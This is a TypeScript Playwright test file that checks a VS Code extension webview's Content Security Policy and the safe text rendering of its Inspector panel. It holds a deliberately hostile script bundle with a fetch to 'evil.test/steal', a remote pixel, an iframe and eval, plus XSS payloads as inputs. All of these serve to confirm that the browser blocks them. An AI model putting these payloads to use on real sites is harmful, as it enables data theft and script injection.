// The CSP of the HTML builder, enforced by a real Chromium: the nonce'd bundle runs; inline
// scripts and styles without the nonce, remote images, fetches and frames are all blocked, and the
// only requests made go to the webview's own resource origin.
import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import { build } from 'esbuild';
import { launchBrowser, webviewAssets } from '../helpers/chromium';
import { buildWebviewHtml, createNonce } from '../../src/extension/webview-html';
import { repoRoot } from '../helpers/chromium';

const origin = 'https://ext.test';
let browser: Browser;

before(async () => { browser = await launchBrowser(); });
after(async () => { await browser?.close(); });

// What a compromised or careless bundle might try. Each attempt records whether it got through.
const hostileBundle = `
window.__attempts = {};
window.__bundleRan = true;
const inline = document.createElement('script');
inline.textContent = 'window.__attempts.inlineScript = true';
document.body.appendChild(inline);
const style = document.createElement('style');
style.textContent = 'body { color: rgb(1, 2, 3); }';
document.head.appendChild(style);
window.__attempts.inlineStyleApplied = getComputedStyle(document.body).color === 'rgb(1, 2, 3)';
fetch('https://evil.test/steal').then(() => { window.__attempts.fetch = true; }, () => {});
const img = new Image(); img.onload = () => { window.__attempts.remoteImage = true; }; img.src = 'https://evil.test/pixel.png';
const frame = document.createElement('iframe'); frame.src = 'https://evil.test/'; document.body.appendChild(frame);
try { eval('window.__attempts.eval = true'); } catch {}
`;

test('Chromium runs only the nonce-carrying bundle and blocks everything else', async () => {
  const nonce = createNonce();
  const html = buildWebviewHtml({
    cspSource: origin, nonce, title: '<script>window.__attempts.title = true</script>',
    styles: [`${origin}/dist/webview.css`], scripts: [`${origin}/dist/webview.js`],
    data: { settings: { note: '"><script>window.__attempts.attr = true</script>' } },
  });
  const context = await browser.newContext();
  const page = await context.newPage();
  const requests: string[] = [];
  const violations: string[] = [];
  await page.route('**/*', (route) => {
    const url = route.request().url();
    requests.push(url);
    if (url === `${origin}/index.html`) return route.fulfill({ contentType: 'text/html', body: html });
    if (url === `${origin}/dist/webview.js`) return route.fulfill({ contentType: 'text/javascript', body: hostileBundle });
    if (url === `${origin}/dist/webview.css`) return route.fulfill({ contentType: 'text/css', body: 'body { margin: 3px; }' });
    return route.abort('blockedbyclient');
  });
  await page.exposeFunction('__violation', (v: string) => violations.push(v));
  // Strings, not functions: this tsconfig has no DOM types, and the code runs in the page anyway.
  await page.addInitScript(`document.addEventListener('securitypolicyviolation', (e) => window.__violation(e.violatedDirective + ' ' + e.blockedURI));`);
  await page.goto(`${origin}/index.html`);
  await page.waitForTimeout(300);
  const state = await page.evaluate(`({ ran: window.__bundleRan, attempts: window.__attempts, margin: getComputedStyle(document.body).margin })`) as
    { ran?: boolean; attempts: Record<string, boolean>; margin: string };
  await context.close();
  assert.equal(state.ran, true, 'the nonce-carrying bundle runs');
  assert.equal(state.margin, '3px', 'the extension stylesheet applies');
  assert.deepEqual(state.attempts, { inlineStyleApplied: false });
  assert.deepEqual(requests, [`${origin}/index.html`, `${origin}/dist/webview.css`, `${origin}/dist/webview.js`], 'no request leaves the resource origin');
  for (const directive of ['script-src-elem', 'style-src-elem', 'connect-src', 'img-src', 'frame-src', 'script-src']) {
    assert.ok(violations.some((v) => v.startsWith(directive)), `${directive} violation reported: ${violations.join(' | ')}`);
  }
});

test('the side views\' page (Inspector) renders words as text under the same CSP, and says ready', async () => {
  const nonce = createNonce();
  const html = buildWebviewHtml({ cspSource: origin, nonce, title: 'Inspector', styles: [`${origin}/dist/webview.css`], scripts: [`${origin}/dist/sideview.js`] });
  // The side bundle as scripts/build.mjs makes it, built in memory so no stale dist/ is tested.
  const bundle = await build({ entryPoints: ['src/webview/side/main.ts'], bundle: true, write: false, platform: 'browser', format: 'iife', target: 'es2022', absWorkingDir: repoRoot, logLevel: 'silent' });
  const { css } = await webviewAssets();
  const context = await browser.newContext();
  const page = await context.newPage();
  const violations: string[] = [];
  await page.exposeFunction('__violation', (v: string) => violations.push(v));
  await page.addInitScript(`window.__posted = []; window.acquireVsCodeApi = () => ({ postMessage: (m) => window.__posted.push(m), getState: () => null, setState: () => {} });
    document.addEventListener('securitypolicyviolation', (e) => window.__violation(e.violatedDirective + ' ' + e.blockedURI));`);
  await page.route('**/*', (route) => {
    const url = route.request().url();
    if (url === `${origin}/index.html`) return route.fulfill({ contentType: 'text/html', body: html });
    if (url === `${origin}/dist/sideview.js`) return route.fulfill({ contentType: 'text/javascript', body: bundle.outputFiles[0].text });
    if (url === `${origin}/dist/webview.css`) return route.fulfill({ contentType: 'text/css', body: css });
    return route.abort('blockedbyclient');
  });
  await page.goto(`${origin}/index.html`);
  await page.waitForFunction('window.__posted.length > 0');
  const data = { kind: 'token', word: '<img src=x onerror="window.__pwned=1">', category: 'space', spaces: [
    { label: '<b>A</b>', neighbours: [{ word: '<script>window.__pwned=2</script>', similarity: 0.75 }, { word: 'star', similarity: -0.25 }] },
  ] };
  await page.evaluate(`window.postMessage({ type: 'inspect', data: ${JSON.stringify(data)} }, '*')`);
  await page.waitForSelector('[data-rendered="true"] .ml-value-bars');
  const state = await page.evaluate(`({ posted: window.__posted, pwned: window.__pwned, title: document.querySelector('.ml-inspector-title').textContent,
    space: document.querySelector('.bars-title').textContent, words: [...document.querySelectorAll('text.row-label')].map((e) => e.textContent),
    values: [...document.querySelectorAll('text.bar-value')].map((e) => e.textContent), images: document.images.length, scripts: document.scripts.length })`) as
    { posted: unknown[]; pwned?: number; title: string; space: string; words: string[]; values: string[]; images: number; scripts: number };
  await context.close();
  assert.deepEqual(state.posted, [{ type: 'ready' }]);
  assert.equal(state.pwned, undefined);
  assert.equal(state.images, 0);
  assert.equal(state.scripts, 1, 'only the nonce\'d bundle');
  assert.equal(state.title, data.word);
  assert.equal(state.space, 'Nearest in <b>A</b>');
  assert.deepEqual(state.words, ['<script>window.__…', 'star'], 'clipped on the axis, as text');
  assert.deepEqual(state.values, ['0.750', '-0.250']);
  assert.deepEqual(violations, []);
});
